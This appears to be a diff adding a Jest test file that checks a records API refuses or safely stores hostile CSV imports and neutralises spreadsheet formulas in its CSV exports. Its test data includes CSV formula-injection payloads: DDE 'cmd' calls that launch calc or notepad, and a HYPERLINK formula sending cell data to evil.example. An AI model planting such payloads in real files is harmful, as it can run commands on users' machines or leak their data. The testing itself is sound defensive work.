@@ -1,0 +1,123 @@
+import { randomUUID } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
+import { usccCheckChar } from '../../src/common/identifiers/uscc';
+import type { TestApp } from '../helpers/app';
+import { http } from '../helpers/app';
+import { startIsolatedTestApp } from '../helpers/isolated-app';
+import { answerProblems } from '../helpers/leak-checks';
+
+/**
+ * Hostile CSV imports (POST /api/v1/records/import, text/csv): a BOM, quotes, embedded newlines, NUL
+ * bytes, huge cells and formula injection (= + - @). Every row is either refused (the report says why)
+ * or stored verbatim; a hostile value that was stored comes out of the CSV exports (audit export,
+ * inspection plan export) neutralised: no cell a spreadsheet would run as a formula.
+ */
+const CODE_CHARS = '0123456789ABCDEFGHJKLMNPQRTUWXY';
+const uscc = (): string => {
+  let body = '91500110';
+  for (let i = 0; i < 9; i++) body += CODE_CHARS[Math.floor(Math.random() * CODE_CHARS.length)];
+  return body + usccCheckChar(body);
+};
+const FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+SUM(1,1)', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(A1:A9)'];
+const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('hostile CSV imports and safe CSV exports', () => {
+  let t: TestApp;
+  const codes = FORMULAS.map(() => uscc());
+  const HEADER = 'type,source,decisionNumber,subjectName,subjectCode,industry,sector,severity,penaltyTypes,fineAmount,decisionDate,violationType,legalBasis';
+  const row = (o: { source?: string; number: string; name: string; code: string; violation?: string; basis?: string }) =>
+    ['penalty', q(o.source ?? '綦江区市场监督管理局'), q(o.number), q(o.name), o.code, 'food_drug', 'food', 'general', 'fine', '1', '2026-10-01', q(o.violation ?? '违法行为'), q(o.basis ?? '《食品安全法》第一百二十四条')].join(',');
+  const run = randomUUID().slice(0, 8);
+
+  beforeAll(async () => {
+    t = await startIsolatedTestApp();
+  });
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  const importCsv = async (csv: string | Buffer, operator?: string) => {
+    const res = await fetch(`${t.url}/api/v1/records/import`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${t.adminKey}`, 'content-type': 'text/csv; charset=utf-8', ...(operator ? { 'x-operator': operator } : {}) },
+      body: csv,
+    });
+    const text = await res.text();
+    expect(answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text })).toEqual([]);
+    return { status: res.status, body: JSON.parse(text) as any };
+  };
+
+  it('stores formula-looking, quoted and multi-line cells verbatim, or refuses the row; never a 5xx', async () => {
+    const rows = FORMULAS.map((f, i) => ({ number: `${f}-${run}-${i}`, name: `${f}公司${i}`, code: codes[i], violation: f, basis: `${f}\n第二行 "引号" ,逗号` }));
+    const csv = '\uFEFF' + [HEADER, ...rows.map(row)].join('\r\n') + '\r\n';
+    const res = await importCsv(csv, FORMULAS[0]);
+    expect(res.status).toBe(200);
+    const report = res.body.rows as { row: number; status: string; recordId?: string; id?: string; errors?: unknown }[];
+    expect(report).toHaveLength(rows.length);
+    for (const [i, r] of report.entries()) {
+      expect(['stored', 'refused']).toContain(r.status);
+      if (r.status !== 'stored') continue;
+      const id = r.recordId ?? r.id;
+      const got = await http(t.url, 'GET', `/api/v1/records/${id}`);
+      expect(got.status).toBe(200);
+      // Verbatim: each value appears exactly, as a JSON string, in the record as answered.
+      const text = JSON.stringify(got.body);
+      for (const v of [rows[i].number, rows[i].violation, rows[i].basis]) expect(text).toContain(JSON.stringify(v));
+      const subject = await http(t.url, 'GET', `/api/v1/subjects/${got.body.subjectId}`);
+      expect(subject.body.name).toBe(rows[i].name);
+    }
+    expect(report.filter((r) => r.status === 'stored').length).toBeGreaterThanOrEqual(3);
+  });
+
+  it('NUL bytes, a huge cell, a huge file, malformed quoting, an unknown column, a bare BOM: refused with a problem or a refused row, never a 5xx', async () => {
+    const nul = await importCsv([HEADER, row({ number: `NUL\u0000${run}`, name: `名\u0000称`, code: uscc() })].join('\n'));
+    expect(nul.status === 400 || nul.body.rows.every((r: { status: string }) => r.status === 'refused')).toBe(true);
+    const huge = await importCsv([HEADER, row({ number: `HUGE-${run}`, name: '大单元格公司', code: uscc(), violation: 'A'.repeat(1_000_000) })].join('\n'));
+    expect(huge.status === 400 || huge.body.rows[0].status === 'refused' || huge.body.rows[0].status === 'stored').toBe(true);
+    for (const bad of [
+      `${HEADER}\npenalty,"unclosed,D-1`,
+      `${HEADER}\n${row({ number: 'x', name: 'y', code: uscc() })},extra,cells`,
+      'type,source,=cmd|calc!A0\npenalty,a,b',
+      '\uFEFF',
+      '\uFEFF\uFEFF' + HEADER,
+      Buffer.from([0xff, 0xfe, 0x00, 0x74, 0x00, 0x79]),
+      `${HEADER}\n` + `${row({ number: 'many', name: 'z', code: uscc() })}\n`.repeat(5001),
+    ]) {
+      const res = await importCsv(bad);
+      expect(res.status === 400 || res.status === 413 || res.body.rows.every((r: { status: string }) => r.status === 'refused')).toBe(true);
+    }
+  });
+
+  it('the audit export (CSV) neutralises every cell a spreadsheet would run as a formula, the stored operator included', async () => {
+    const res = await fetch(`${t.url}/api/v1/audit/export?format=csv`, { headers: { authorization: `Bearer ${t.adminKey}` } });
+    expect(res.status).toBe(200);
+    const cells = (parse(await res.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
+    expect(cells).toContain(`'${FORMULAS[0]}`);
+  });
+
+  it('the inspection plan export (CSV) neutralises stored subject names and inspectors', async () => {
+    const stored = await http(t.url, 'GET', `/api/v1/subjects?code=${codes[1]}`);
+    const subjectId = stored.body.items?.[0]?.id as string | undefined;
+    expect(subjectId).toBeDefined();
+    const plan = await http(t.url, 'POST', '/api/v1/inspection-plans', {
+      department: FORMULAS[2],
+      industry: 'food_drug',
+      period: { from: '2026-12-01', to: '2026-12-31' },
+      inspectors: [
+        { id: FORMULAS[4], name: FORMULAS[3], department: FORMULAS[0] },
+        { id: `QJ-${run}`, name: '@张伟', department: '+綦江区' },
+      ],
+      leads: [subjectId!],
+      seed: FORMULAS[1],
+    });
+    expect(plan.status).toBe(201);
+    const res = await fetch(`${t.url}/api/v1/inspection-plans/${plan.body.id}/export?format=csv`, { headers: { authorization: `Bearer ${t.adminKey}` } });
+    expect(res.status).toBe(200);
+    const cells = (parse(await res.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
+    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
+    expect(cells).toContain(`'${FORMULAS[1]}公司1`);
+    expect(cells.some((c) => c.startsWith(`'${FORMULAS[4]}`))).toBe(true);
+  });
+});
